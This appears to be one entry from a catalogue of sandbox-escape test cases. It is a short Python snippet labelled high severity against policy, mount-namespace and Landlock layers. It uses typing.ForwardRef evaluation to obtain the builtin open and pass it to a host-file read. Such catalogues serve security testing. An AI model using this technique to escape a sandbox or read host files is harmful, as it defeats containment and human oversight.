# technique: a forward reference evaluates its text
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import typing

read_host(lambda: typing.ForwardRef("open")._evaluate({}, {}, frozenset()))
